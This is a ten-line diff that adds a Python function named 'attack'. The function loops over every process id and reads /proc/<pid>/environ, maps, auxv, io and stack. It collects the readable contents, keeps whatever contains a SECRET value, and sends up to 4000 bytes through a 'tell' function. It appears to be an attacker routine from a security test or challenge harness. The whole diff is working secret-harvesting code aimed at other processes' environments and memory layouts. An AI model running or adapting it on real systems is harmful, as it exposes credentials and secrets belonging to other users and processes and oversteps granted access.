@@ -1,0 +1,10 @@
+# tries: environments, command lines and maps of every process
+def attack(keys, j):
+    loot = []
+    for pid in range(1, 1 << 15):
+        for name in ("environ", "maps", "auxv", "io", "stack"):
+            try:
+                loot.append(open(f"/proc/{pid}/{name}", "rb").read(1 << 16))
+            except OSError:
+                continue
+    tell(b"".join(each for each in loot if SECRET in each)[:4000])
